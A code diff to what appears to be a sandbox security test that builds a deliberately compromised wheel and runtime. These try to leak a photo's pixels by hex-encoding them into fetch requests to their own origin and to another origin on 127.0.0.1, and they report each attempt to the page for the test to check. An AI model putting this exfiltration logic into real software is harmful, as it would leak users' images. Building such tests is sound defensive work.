@@ -1,8 +1,8 @@
 """A build whose dependencies have turned: a wheel and the model's runtime that try every way out.
 
 Both try when they are imported and again when they hold the photo's pixels, by every attempt of the
-catalogue, and Python by its own ways too. They say on a channel what they tried, so that a test
-can tell an attack that was refused from one that never ran.
+catalogue, and Python by its own ways too. They tell the page what they tried, which this build has
+listen, so that a test can tell an attack that was refused from one that never ran.
 """
 
 import hashlib
@@ -20,19 +20,25 @@ from tools.lock import Part
 from tools.paths import ROOT
 
 # What is sent is what they hold: 48 bytes of it, in the address and in the body.
+_LISTEN = """
+  worker.addEventListener("message", ({ data }) => {
+    if (!data?.hostile) return;
+    const { dataset } = document.body;
+    dataset.told = JSON.stringify([...JSON.parse(dataset.told ?? "[]"), data.hostile]);
+  });
+"""
 _CATALOGUE = thread_catalogue().replace(
     "new Uint8Array(64).fill(0x70)", "(globalThis.stolen ?? new Uint8Array(48))"
 )
 _ATTACK = """
 const base = globalThis.origin + "/probe";
-const say = new BroadcastChannel("hostile");
 const attack = async (where, bytes) => {
   globalThis.stolen = bytes;
   const hex = Array.from(bytes, (byte) => byte.toString(16).padStart(2, "0")).join("");
   const own = base + "?pixels=" + hex + "&leak=";
   const other = "http://127.0.0.1:PORT/probe?pixels=" + hex + "&leak=";
   const rows = await runAttempts(threadAttempts({own, other}, fetch), 2500);
-  say.postMessage({where, hex, rows});
+  postMessage({hostile: {where, hex, rows}});
 };
 """
 _IN_RUNTIME = """
@@ -77,7 +83,9 @@ def _turned():
 
     nested = NESTED
     base = js.globalThis.origin + "/probe"
-    say = js.BroadcastChannel.new("hostile")
+
+    def say(told):
+        js.postMessage(js.Object.fromEntries(to_js([["hostile", told]])))
 
     def quiet(worker):
         # An error that nobody stops goes up and ends the whole worker: that would help nobody.
@@ -124,6 +132,7 @@ def _turned():
             how = js.Object.fromEntries(to_js([["type", "module"]]))
             worker = quiet(js.Worker.new(js.URL.createObjectURL(blob), how))
             told = [["where", where + ", in a worker"], ["bytes", payload]]
+            worker.onmessage = create_proxy(lambda event: js.postMessage(event.data))
             worker.postMessage(js.Object.fromEntries(to_js(told)))
 
         ways = {
@@ -152,7 +161,7 @@ def _turned():
                 rows.append([name, type(error).__name__ + ": " + str(error)[:120]])
         told = [["where", where], ["hex", stolen.hex()]]
         told = js.Object.fromEntries(to_js([*told, ["rows", to_js(rows)]]))
-        say.postMessage(told)
+        say(told)
 
     asyncio.ensure_future(attack("wheel, imported", bytes(48)))
     real = Image.fromarray
@@ -198,6 +207,8 @@ def build_hostile(out: Path, scratch: Path, port: int, *, is_sealed: bool = True
     ignored = shutil.ignore_patterns("node_modules", "__pycache__")
     for name in ("app", "model", "static"):
         shutil.copytree(ROOT / name, sources / name, ignore=ignored)
+    peer = "  const peer = connect(worker);"
+    _change(sources / "static/js/thread.js", peer, _LISTEN + peer)
     if not is_sealed:
         _change(sources / "static/js/seal.js", "document.head.append(meta);", "")
         proof = sources / "static/js/workers/seal-proof.js"
